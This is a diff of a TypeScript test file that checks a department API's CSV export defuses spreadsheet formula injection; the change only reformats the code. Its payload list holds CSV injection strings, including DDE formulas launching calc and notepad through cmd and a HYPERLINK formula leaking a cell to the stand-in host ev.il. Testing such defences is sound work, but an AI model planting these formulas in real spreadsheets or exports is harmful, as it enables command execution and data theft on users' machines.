@@ -11,17 +11,7 @@ import { restTestApp, YEAR } from './testApp.ts';
  * supplier list (the web builds those from the tRPC export data with the same functions) — with a
  * `'` in front; amounts and phone numbers stay as they are.
  */
-const PAYLOADS = [
-  `=cmd|' /C calc'!A0`,
-  '+1+1',
-  '-2+3',
-  '@SUM(1)',
-  '=HYPERLINK("http://ev.il?"&A1;"x")',
-  '\t=1+1',
-  '\r=1+1',
-  `-cmd|' /C notepad'!A0`,
-  '+thing',
-];
+const PAYLOADS = [`=cmd|' /C calc'!A0`, '+1+1', '-2+3', '@SUM(1)', '=HYPERLINK("http://ev.il?"&A1;"x")', '\t=1+1', '\r=1+1', `-cmd|' /C notepad'!A0`, '+thing'];
 
 /** The cells of a CSV export (BOM off, semicolons, CRLF). */
 function cells(csv: string): string[][] {
@@ -49,7 +39,12 @@ for (const target of testDatabases()) {
       const union = t.dept('000');
       for (const [i, code] of codes.entries()) {
         const payload = PAYLOADS[i] as string;
-        const patch = { name1Deu: payload, name2Deu: 'Wehr', commander: { name: PAYLOADS[(i + 3) % PAYLOADS.length] as string }, landlinePhone: '+39 0471 123456' };
+        const patch = {
+          name1Deu: payload,
+          name2Deu: 'Wehr',
+          commander: { name: PAYLOADS[(i + 3) % PAYLOADS.length] as string },
+          landlinePhone: '+39 0471 123456',
+        };
         const res = await t.call('admin', 'PATCH', `Departments/${t.dept(code)}?departmentId=${union}`, patch);
         expect(res.statusCode, res.body).toBe(200);
         const stored = res.json() as { name1Deu: string; name2Deu: string; commander: { name: string } };
